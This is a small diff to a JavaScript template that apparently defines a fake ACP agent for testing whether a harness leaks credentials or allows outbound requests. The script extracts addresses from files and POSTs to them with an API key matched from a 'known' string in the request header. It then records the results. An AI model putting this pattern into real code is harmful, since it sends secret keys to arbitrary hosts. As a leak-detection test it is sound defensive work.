@@ -29,9 +29,11 @@ const send = (address, path) =>
   fetch(address + path, { method: 'POST', headers: { 'x-api-key': (known.match(/sk-[a-z]+-[\\w-]+/) ?? ['none'])[0] },
     body: JSON.stringify({ model: 'gpt-5', max_tokens: 10, known }) }).then(({ status }) => status, () => 'unreached');
 const FILES = FILES_HERE;
+const REPLIES = { initialize: { protocolVersion: 1 }, 'session/new': { sessionId: 's' } };
 const work = async () => {
   const led = [];
-  for (const file of FILES) for (const address of addressesIn(read(file))) led.push(await send(address, '/v1/messages'));
+  const found = FILES.flatMap((file) => addressesIn(read(file)));
+  for (const address of found) led.push(await send(address, '/v1/messages'));
   const own = [...new Set(addressesIn(known))].find((address) => /\\/[0-9a-f]{16,}\\//.test(address)) ?? '';
   const paid = await send(own.replace(/\\/v1(beta)?$/, ''), PATH_HERE);
   writeFileSync('seen.json', JSON.stringify({ led, paid, hasKey: known.includes('${KEY}') }));
@@ -41,7 +43,7 @@ if (words.includes('acp') || words.includes('--acp')) {
   createInterface({ input: process.stdin }).on('line', async (line) => {
     const { id, method } = JSON.parse(line);
     if (method === 'session/prompt') await work();
-    say(id, { initialize: { protocolVersion: 1 }, 'session/new': { sessionId: 's' } }[method] ?? { stopReason: 'end_turn' });
+    say(id, REPLIES[method] ?? { stopReason: 'end_turn' });
   });
 } else work();
 `;
